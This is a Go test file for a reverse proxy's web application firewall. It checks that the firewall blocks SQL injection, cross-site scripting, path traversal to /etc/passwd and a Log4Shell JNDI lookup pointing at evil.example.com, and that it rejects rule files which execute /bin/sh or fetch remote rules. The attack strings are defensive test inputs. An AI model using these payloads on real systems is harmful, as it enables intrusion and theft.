// SPDX-License-Identifier: Apache-2.0

package waf

import (
	"bytes"
	"log/slog"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/weft-net/weft/internal/proxy"
	"github.com/weft-net/weft/internal/route"
)

type request struct {
	method, uri, body string
	headers           []string // name, value, ...
}

func (r request) inspected() *proxy.Inspected {
	if r.method == "" {
		r.method = "GET"
	}
	headers := append([]string{"Host", "a.example.com", "User-Agent", "Mozilla/5.0", "Accept", "*/*"}, r.headers...)
	return &proxy.Inspected{Method: r.method, URI: r.uri, Protocol: "HTTP/1.1", Host: "a.example.com", Client: netip.MustParseAddr("192.0.2.1"), ClientPort: 1234,
		Server: netip.MustParseAddrPort("192.0.2.9:80"), Body: []byte(r.body), Headers: func(yield func(string, string) bool) {
			for i := 0; i < len(headers); i += 2 {
				if !yield(headers[i], headers[i+1]) {
					return
				}
			}
		}}
}

func firewall(t *testing.T, c route.WAF) (proxy.Firewall, *bytes.Buffer) {
	t.Helper()
	log := &bytes.Buffer{}
	f, err := New(slog.New(slog.NewTextHandler(log, nil)))(&c)
	if err != nil {
		t.Fatal(err)
	}
	return f, log
}

func TestCoreRules(t *testing.T) {
	f, log := firewall(t, route.WAF{CoreRules: true})
	form := []string{"Content-Type", "application/x-www-form-urlencoded"}
	for _, c := range []struct {
		r    request
		want int
	}{
		{request{uri: "/shop/item?id=7&q=blue+shoes"}, 0},
		{request{method: "POST", uri: "/login", body: "user=ann&password=secret", headers: form}, 0},
		{request{method: "POST", uri: "/api", body: `{"name":"ann"}`, headers: []string{"Content-Type", "application/json"}}, 0},
		{request{uri: "/item?id=1%27%20OR%20%271%27=%271%27%20--%20"}, 403},                                    // SQL injection
		{request{uri: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"}, 403},                                     // cross-site scripting
		{request{uri: "/file?name=../../../../etc/passwd"}, 403},                                               // path traversal
		{request{method: "POST", uri: "/login", body: "user=x'%20UNION%20SELECT%201,2--", headers: form}, 403}, // in a body
		{request{uri: "/", headers: []string{"X-Api", "${jndi:ldap://evil.example.com/a}"}}, 403},              // Log4Shell
		{request{method: "POST", uri: "/", body: `{"q":"<script>alert(1)</script>"}`, headers: []string{"Content-Type", "application/json"}}, 403},
	} {
		if got, why := f.Inspect(c.r.inspected()); got != c.want {
			t.Errorf("%s %s: %d %s, want %d", c.r.uri, c.r.body, got, why, c.want)
		}
	}
	if !strings.Contains(log.String(), "942100") && !strings.Contains(log.String(), "SQL") {
		t.Errorf("nothing is told: %s", log)
	}
}

// What is too large to be looked into is refused, unless nothing is refused at all; what no rule understands is not
// looked into.
func TestBodiesBeyondTheLimit(t *testing.T) {
	f, _ := firewall(t, route.WAF{CoreRules: true})
	detect, _ := firewall(t, route.WAF{CoreRules: true, DetectOnly: true})
	for kind, want := range map[string]int{"application/json": limitOther, "application/vnd.x+json; charset=utf-8": limitOther, "multipart/form-data; boundary=x": limitForms,
		"text/xml": limitOther, "": limitOther, "application/octet-stream": 0, "image/png": 0, "application/grpc": 0} {
		if got := f.Limit(kind); got != want {
			t.Errorf("%s: %d, want %d", kind, got, want)
		}
	}
	r := request{method: "PUT", uri: "/upload", body: "{", headers: []string{"Content-Type", "application/json"}}.inspected()
	r.Truncated = true
	if got, why := f.Inspect(r); got != 413 {
		t.Errorf("%d %s", got, why)
	}
	if got, _ := detect.Inspect(r); got != 0 {
		t.Errorf("%d though nothing is enforced", got)
	}
}

func TestDetectOnly(t *testing.T) {
	f, log := firewall(t, route.WAF{CoreRules: true, DetectOnly: true, Rules: "SecRuleEngine On"})
	if got, why := f.Inspect(request{uri: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"}.inspected()); got != 0 {
		t.Errorf("refused: %d %s", got, why)
	}
	if !strings.Contains(log.String(), "XSS") {
		t.Errorf("not told: %s", log)
	}
}

func TestOwnRules(t *testing.T) {
	f, _ := firewall(t, route.WAF{Rules: "SecRule REQUEST_URI \"@contains /admin\" \\\n  \"id:1,phase:1,deny,status:418\""})
	for uri, want := range map[string]int{"/": 0, "/admin": 418, "/search?q=%3Cscript%3E": 0} {
		if got, _ := f.Inspect(request{uri: uri}.inspected()); got != want {
			t.Errorf("%s: %d, want %d", uri, got, want)
		}
	}
	// Core rules can be left out one by one.
	f, _ = firewall(t, route.WAF{CoreRules: true, Rules: "SecRuleRemoveById 941100-941999\nSecAction \"id:900110,phase:1,pass,nolog,t:none,setvar:tx.inbound_anomaly_score_threshold=5\""})
	if got, why := f.Inspect(request{uri: "/search?q=%3Cb%20onclick=x%3E"}.inspected()); got != 0 {
		t.Errorf("a rule that was removed: %d %s", got, why)
	}
}

func TestRulesThatReachOutside(t *testing.T) {
	for _, rules := range []string{
		"SecAuditLog /tmp/x", "  secdebuglog /tmp/x", "SecDataDir /", "SecUploadDir /tmp", "SecRule ARGS \"x\" \"id:1,phase:1,exec:/bin/sh\"",
		"Include /etc/passwd", "Include @owasp_crs.conf", "SecRule ARGS \"@inspectFile /bin/sh\" \"id:1,phase:2\"", "SecRemoteRules k https://evil.example.com",
		"SecRule ARGS", "SecRule ARGS \"@pmFromFile /etc/passwd\" \"id:1,phase:1,deny\"", "nonsense", "", " ",
	} {
		if _, err := New(slog.New(slog.DiscardHandler))(&route.WAF{Rules: rules}); err == nil {
			t.Errorf("%q was accepted", rules)
		}
	}
}

// Many requests at a time share one engine, and policies with the same rules share it too.
func TestConcurrentInspection(t *testing.T) {
	firewalls := New(slog.New(slog.DiscardHandler))
	one, err := firewalls(&route.WAF{CoreRules: true})
	if err != nil {
		t.Fatal(err)
	}
	two, err := firewalls(&route.WAF{CoreRules: true})
	if err != nil || one != two {
		t.Errorf("%v", err)
	}
	var all sync.WaitGroup
	for i := range 8 {
		all.Go(func() {
			for range 5 {
				uri, want := "/?q=fine", 0
				if i%2 == 0 {
					uri, want = "/?q=%3Cscript%3Ealert(1)%3C/script%3E", 403
				}
				if got, _ := one.Inspect(request{uri: uri}.inspected()); got != want {
					t.Errorf("%s: %d", uri, got)
				}
			}
		})
	}
	all.Wait()
}

func BenchmarkCoreRules(b *testing.B) {
	f, err := New(slog.New(slog.DiscardHandler))(&route.WAF{CoreRules: true})
	if err != nil {
		b.Fatal(err)
	}
	r := request{uri: "/shop/item?id=7&q=blue+shoes"}.inspected()
	b.ReportAllocs()
	for b.Loop() {
		if status, why := f.Inspect(r); status != 0 {
			b.Fatal(why)
		}
	}
}
